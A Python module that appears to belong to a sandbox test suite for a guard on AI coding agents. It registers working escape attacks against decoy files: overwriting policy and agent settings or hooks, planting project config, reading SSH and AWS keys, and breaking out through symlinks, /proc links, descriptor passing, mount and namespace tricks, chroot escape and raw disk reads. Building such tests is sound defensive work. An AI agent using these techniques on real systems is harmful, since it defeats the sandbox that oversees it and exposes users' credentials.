# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Attacks on files: guard files, settings of clients, credentials, and files that are absent before the run."""

from __future__ import annotations

import os
import shutil
import socket
import stat
import struct
from pathlib import Path

from registry import MARK, add, attack, changed, leaked, planted
import syscall_numbers as sys_call

POLICY, STATE, SETTINGS = ".config/tenterhook/policy.yaml", ".local/state/tenterhook/decoy.state", ".claude/settings.json"
GUARDED = {
    "policy": POLICY, "state": STATE, "claude-settings": SETTINGS, "codex-config": ".codex/config.toml",
    "gemini-settings": ".gemini/settings.json", "hook-program": ".local/bin/tenterhook-decoy",
}
SECRETS = {"ssh-key": ".ssh/id_ed25519", "aws-key": ".aws/credentials", "ledger-key": ".local/state/tenterhook/ledger/decoy.key"}
# Files that a client reads, and that are absent when the run starts. `proj` is the project.
ABSENT = {
    "claude-local-settings": ".claude/settings.local.json", "qwen-settings": ".qwen/settings.json",
    "project-mcp": "proj/.mcp.json", "project-claude-settings": "proj/.claude/settings.json",
    "project-claude-local-settings": "proj/.claude/settings.local.json", "project-codex-config": "proj/.codex/config.toml",
    "project-gemini-settings": "proj/.gemini/settings.json", "project-cursor-hooks": "proj/.cursor/hooks.json",
    "state-file": ".local/state/tenterhook/decoy-new.state", "policy-directory-file": ".config/tenterhook/rules.d/decoy.yaml",
}


def overwrite(path: Path, text: bytes = MARK + b"\n") -> None:
    """Write a file in place, and create its directory."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text)


for _name, _path in GUARDED.items():
    add(f"write-{_name}", "guard files", f"overwrite `~/{_path}`",
        lambda t, path=_path: overwrite(t.home / path), changed(_path))
for _name, _path in ABSENT.items():
    add(f"create-{_name}", "absent files", f"create `~/{_path}`, which does not exist",
        lambda t, path=_path: overwrite(t.home / path), planted(_path))
for _name, _path in SECRETS.items():
    add(f"read-{_name}", "credentials", f"read `~/{_path}`",
        lambda t, path=_path: t.report((t.home / path).read_bytes()), leaked(_path))


@attack("guard files", "truncate a state file by path", changed(STATE))
def truncate_state(t):
    os.truncate(t.home / STATE, 0)


@attack("guard files", "delete a state file", changed(STATE))
def unlink_state(t):
    os.unlink(t.home / STATE)


@attack("guard files", "delete the state directory", changed(STATE))
def remove_state_directory(t):
    shutil.rmtree(t.home / ".local/state/tenterhook")


@attack("guard files", "change the mode of the policy", changed(POLICY))
def chmod_policy(t):
    os.chmod(t.home / POLICY, 0o4777)


@attack("guard files", "set an extended attribute on the policy", lambda s: s.extended_attribute(POLICY))
def xattr_policy(t):
    os.setxattr(t.home / POLICY, "user.attack", MARK)


@attack("guard files", "replace the settings by renaming a file of the project over them", changed(SETTINGS))
def replace_settings(t):
    overwrite(t.project / "evil.json")
    os.replace(t.project / "evil.json", t.home / SETTINGS)


@attack("guard files", "exchange the settings with a file of the project (RENAME_EXCHANGE)", changed(SETTINGS))
def exchange_settings(t):
    overwrite(t.project / "evil.json")
    t.call(sys_call.RENAMEAT2, -100, t.project / "evil.json", -100, t.home / SETTINGS, 2)


def rename_and_refill(t, directory: str, file: str) -> None:
    source = t.home / directory
    os.rename(source, source.with_name(source.name + "-old"))
    overwrite(t.home / file)


for _directory, _file in ((".claude", SETTINGS), (".codex", ".codex/config.toml"), (".config/tenterhook", POLICY),
                          (".config", POLICY), (".local/state/tenterhook", STATE), (".local/state", STATE),
                          (".local", STATE), (".gemini", ".gemini/settings.json")):
    add(f"rename-parent-{_directory.strip('.').replace('/', '-')}", "guard files",
        f"rename `~/{_directory}` and make it again with `~/{_file}`",
        lambda t, d=_directory, f=_file: rename_and_refill(t, d, f), changed(_file))


@attack("guard files", "rename the home directory and make it again", changed(SETTINGS))
def rename_home(t):
    os.rename(t.home, str(t.home) + "-old")
    overwrite(t.home / SETTINGS)


@attack("guard files", "move the state directory into the project", changed(STATE))
def move_state_into_project(t):
    os.rename(t.home / ".local/state/tenterhook", t.project / "taken")


@attack("links", "write the policy through a symbolic link in the project", changed(POLICY))
def symlink_file(t):
    (t.project / "link").symlink_to(t.home / POLICY)
    overwrite(t.project / "link")


@attack("links", "write the settings through a symbolic link to their directory", changed(SETTINGS))
def symlink_directory(t):
    (t.project / "link").symlink_to(t.home / ".claude")
    overwrite(t.project / "link/settings.json")


@attack("links", "replace a directory of the project by a link, then let `..` lead out", changed(POLICY))
def symlink_dot_dot(t):
    (t.project / "link").symlink_to(t.home / ".config/tenterhook")
    overwrite(t.project / "link/../tenterhook/policy.yaml")


@attack("links", "write the policy through a hard link in the project", changed(POLICY))
def hard_link_write(t):
    os.link(t.home / POLICY, t.project / "hard")
    overwrite(t.project / "hard")


@attack("links", "read an SSH key through a hard link in the project", leaked(".ssh/id_ed25519"))
def hard_link_read(t):
    os.link(t.home / ".ssh/id_ed25519", t.project / "hard")
    t.report((t.project / "hard").read_bytes())


@attack("links", "read an SSH key through a symbolic link in the project", leaked(".ssh/id_ed25519"))
def symlink_read(t):
    (t.project / "link").symlink_to(t.home / ".ssh")
    t.report((t.project / "link/id_ed25519").read_bytes())


@attack("links", "replace the symbolic link `~/.zshrc` by a file", planted(".zshrc"))
def replace_symlink(t):
    os.unlink(t.home / ".zshrc")
    overwrite(t.home / ".zshrc")


@attack("links", "write through the symbolic link `~/.zshrc` to `~/.dotfiles/zshrc`", planted(".dotfiles/zshrc"))
def write_through_dotfiles(t):
    overwrite(t.home / ".zshrc")


@attack("magic links", "write the policy through `/proc/self/root`", changed(POLICY))
def proc_self_root(t):
    overwrite(Path(f"/proc/self/root{t.home / POLICY}"))


@attack("magic links", "write the policy through `/proc/1/root`", changed(POLICY))
def proc_1_root(t):
    overwrite(Path(f"/proc/1/root{t.home / POLICY}"))


@attack("magic links", "write the policy through `/proc/PID/root` of the daemon", changed(POLICY))
def proc_daemon_root(t):
    t.each_daemon(lambda pid: overwrite(Path(f"/proc/{pid}/root{t.home / POLICY}")))


@attack("magic links", "write a state file through `/proc/PID/cwd` of the daemon", changed(STATE))
def proc_daemon_cwd(t):
    t.each_daemon(lambda pid: overwrite(Path(f"/proc/{pid}/cwd/decoy.state")))


@attack("magic links", "write the policy through `/proc/PID/fd` of the daemon", changed(POLICY))
def proc_daemon_fd(t):
    t.each_daemon(lambda pid: overwrite(Path(f"/proc/{pid}/fd/{t.daemon['policy_fd']}")))


@attack("magic links", "write the policy through `/proc/PID/root` of every visible process", changed(POLICY))
def proc_any_root(t):
    for pid in t.visible_pids():
        try:
            overwrite(Path(f"/proc/{pid}/root{t.home / POLICY}"))
        except OSError as error:
            t.note(error)


@attack("descriptors", "write through an inherited descriptor of the policy", changed(POLICY), launch={"inherit"})
def inherited_file(t):
    for number in t.inherited():
        if stat.S_ISREG(os.fstat(number).st_mode):
            os.write(number, MARK)


@attack("descriptors", "open the settings relative to an inherited descriptor of the home", changed(SETTINGS),
        launch={"inherit"})
def inherited_directory(t):
    for number in t.inherited():
        if stat.S_ISDIR(os.fstat(number).st_mode):
            os.write(os.open(SETTINGS, os.O_WRONLY | os.O_TRUNC, dir_fd=number), MARK)


@attack("descriptors", "use an inherited connection to a service outside",
        lambda s: "the service got bytes" if MARK in s.inherited_bytes() else "", launch={"inherit"})
def inherited_socket(t):
    for number in t.inherited():
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.write(number, MARK)


@attack("descriptors", "get a descriptor of the policy from a service outside (SCM_RIGHTS)", changed(POLICY))
def scm_rights(t):
    client = socket.socket(socket.AF_UNIX)
    client.connect(t.sockets["descriptor-service"])
    _, descriptors, _, _ = socket.recv_fds(client, 16, 4)
    for number in descriptors:
        os.write(number, MARK)


@attack("descriptors", "take the daemon's memory file with pidfd_getfd", leaked("daemon"))
def pidfd_getfd(t):
    def take(pid: int) -> None:
        number = t.call(sys_call.PIDFD_GETFD, os.pidfd_open(pid), t.daemon["secret_fd"], 0)
        t.report(os.pread(number, 200, 0))
    t.each_daemon(take)


@attack("mounts", "mount a tmpfs over the policy directory", changed(POLICY))
def mount_tmpfs(t):
    t.libc("mount", b"none", bytes(t.home / ".config/tenterhook"), b"tmpfs", 0, None)


@attack("mounts", "bind a file of the project over the settings", changed(SETTINGS))
def mount_bind(t):
    overwrite(t.project / "evil.json")
    t.libc("mount", bytes(t.project / "evil.json"), bytes(t.home / SETTINGS), None, 4096, None)


def weaken_mounts(t) -> None:
    """Unmount what is mounted on the guarded paths and remount the rest writable, then write."""
    for path in (SETTINGS, POLICY, ".config/tenterhook", ".local/state/tenterhook", ".claude", ".config", ""):
        target = bytes(t.home / path)
        t.libc_quietly("mount", None, target, None, 32 | 4096, None)
        t.libc_quietly("umount2", target, 2)
    t.libc_quietly("mount", None, b"/", None, 32 | 4096, None)
    overwrite(t.home / SETTINGS)


@attack("mounts", "remount the guarded paths writable or unmount them", changed(SETTINGS))
def remount_writable(t):
    weaken_mounts(t)


@attack("mounts", "the same in a new user and mount namespace", changed(SETTINGS))
def remount_in_user_namespace(t):
    t.new_namespaces(user=True, mount=True)
    weaken_mounts(t)


@attack("mounts", "clone the home with open_tree, clear its read-only flag, write the settings there", changed(SETTINGS))
def open_tree_writable(t):
    t.new_namespaces_quietly(user=True, mount=True)
    tree = t.call(sys_call.OPEN_TREE, -100, t.home, 1 | 0x80000 | 0x8000)
    attributes = struct.pack("QQQQ", 0, 1, 0, 0)
    t.call_quietly(sys_call.MOUNT_SETATTR, tree, b"", 0x1000 | 0x8000, attributes, len(attributes))
    os.write(os.open(SETTINGS, os.O_WRONLY | os.O_TRUNC, dir_fd=tree), MARK)


@attack("mounts", "make a file system with fsopen and move it over the policy directory", changed(POLICY))
def fsopen_move_mount(t):
    context = t.call(sys_call.FSOPEN, b"tmpfs", 0)
    t.call(sys_call.FSCONFIG, context, 6, None, None, 0)
    mounted = t.call(sys_call.FSMOUNT, context, 0, 0)
    t.call(sys_call.MOVE_MOUNT, mounted, b"", -100, t.home / ".config/tenterhook", 4)


@attack("mounts", "leave a chroot with the classic double chroot, then write the policy", changed(POLICY))
def chroot_escape(t):
    os.mkdir(t.project / "jail")
    start = os.open("/", os.O_RDONLY)
    os.chroot(t.project / "jail")
    os.fchdir(start)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    overwrite(t.home / POLICY)


@attack("mounts", "pivot_root to an old root in a new user namespace, then write the policy", changed(POLICY))
def pivot_root(t):
    t.new_namespaces(user=True, mount=True)
    t.libc("mount", b"/", bytes(t.project), None, 4096 | 16384, None)
    os.chdir(t.project)
    t.call(sys_call.PIVOT_ROOT, b".", b".")
    t.libc_quietly("mount", None, b"/", None, 32 | 4096, None)
    overwrite(t.home / POLICY)


@attack("mounts", "mount an overlay of the home in a new user namespace and write the settings below it", changed(SETTINGS))
def overlay_lower(t):
    t.new_namespaces(user=True, mount=True)
    for name in ("upper", "work", "merged"):
        os.mkdir(t.project / name)
    options = f"lowerdir={t.project},upperdir={t.home / '.claude'},workdir={t.home / '.claude-work'},userxattr"
    os.mkdir(t.home / ".claude-work")
    t.libc("mount", b"none", bytes(t.project / "merged"), b"overlay", 0, options.encode())
    overwrite(t.project / "merged/settings.json")


@attack("file handles", "open the policy by its handle, relative to the project's mount", changed(POLICY))
def open_by_handle(t):
    handle = bytearray(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = bytearray(8)
    t.call(sys_call.NAME_TO_HANDLE_AT, -100, t.home / POLICY, handle, mount_id, 0)
    anchor = os.open(t.project, os.O_RDONLY)
    os.write(t.call(sys_call.OPEN_BY_HANDLE_AT, anchor, handle, os.O_WRONLY | os.O_TRUNC), MARK)


@attack("devices", "make a device node of the disk and read from it", leaked("disk"))
def mknod_disk(t):
    node = t.project / "disk"
    os.mknod(node, 0o600 | stat.S_IFBLK, os.makedev(*t.disk))
    with open(node, "rb") as disk:
        disk.seek(1024)
        t.report(disk.read(1024))


@attack("devices", "read the disk through `/dev`", leaked("disk"))
def dev_disk(t):
    for entry in sorted(Path("/dev").rglob("*")):
        information = entry.lstat()
        if stat.S_ISBLK(information.st_mode) and information.st_rdev == os.makedev(*t.disk):
            with open(entry, "rb") as disk:
                disk.seek(1024)
                t.report(disk.read(1024))


@attack("programs", "a compiled program writes the settings", changed(SETTINGS))
def compiled_program(t):
    t.helper("plain", "write", t.home / SETTINGS)


@attack("programs", "a program in a memory file writes the settings", changed(SETTINGS))
def memfd_program(t):
    number = os.memfd_create("program", 0)
    os.write(number, t.helper_path.read_bytes())
    t.wait(os.spawnv(os.P_NOWAIT, f"/proc/self/fd/{number}", ["x", "plain", "write", str(t.home / SETTINGS)]))


@attack("programs", "a double fork and setsid, then write the settings", changed(SETTINGS))
def double_fork(t):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                overwrite(t.home / SETTINGS)
            finally:
                os._exit(0)
        os.wait()
        os._exit(0)
    os.wait()


for _entry in ("uring", "i386", "x32"):
    add(f"{_entry}-write", "other entry points", f"write the settings with {_entry} system calls",
        lambda t, e=_entry: t.helper(e, "write", t.home / SETTINGS), changed(SETTINGS))
    add(f"{_entry}-read", "other entry points", f"read an SSH key with {_entry} system calls",
        lambda t, e=_entry: t.report(t.helper(e, "read", t.home / ".ssh/id_ed25519")), leaked(".ssh/id_ed25519"))


@attack("shared files", "write a file in `/tmp` that belongs to another program of the user",
        lambda s: "the file was changed" if MARK in s.outside_file("tmp-file") else "")
def tmp_file_of_other_program(t):
    overwrite(Path(t.outside["tmp-file"]))


@attack("shared files", "read a file in `/tmp` that belongs to another program of the user", leaked("tmp-file"))
def read_tmp_file(t):
    t.report(Path(t.outside["tmp-file"]).read_bytes())


@attack("shared files", "replace the daemon's socket by another", lambda s: s.daemon_socket_difference())
def replace_daemon_socket(t):
    os.unlink(t.sockets["daemon"])
    socket.socket(socket.AF_UNIX).bind(t.sockets["daemon"])
